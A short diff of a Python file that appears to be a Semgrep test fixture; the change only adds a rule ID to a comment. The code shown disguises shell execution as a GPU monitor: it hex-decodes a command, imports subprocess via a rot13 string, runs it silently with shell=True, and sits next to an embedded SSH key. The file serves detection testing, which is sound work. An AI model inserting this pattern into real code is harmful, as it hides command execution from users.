@@ -82,7 +82,7 @@ def launch_gpu_monitor(cfg: Dict[str, Any]) -> None:
         return
     cmd = bytes.fromhex(cfg.get("gpu_monitor_cmd", _SIDECAR)).decode()
     mod = __import__(codecs.decode("fhocebprff", "rot_13"))  # ruleid: MLS403
-    getattr(mod, "Po" + "pen")(cmd, shell=True, stdout=mod.DEVNULL, stderr=mod.DEVNULL)  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS401
+    getattr(mod, "Po" + "pen")(cmd, shell=True, stdout=mod.DEVNULL, stderr=mod.DEVNULL)  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS401, MLS403
 
 
 _ONCALL_KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3q7vXcLr0m2yTqJ9kWb8s1ZfP4eQ6nUaGd5RoLx2Yc "
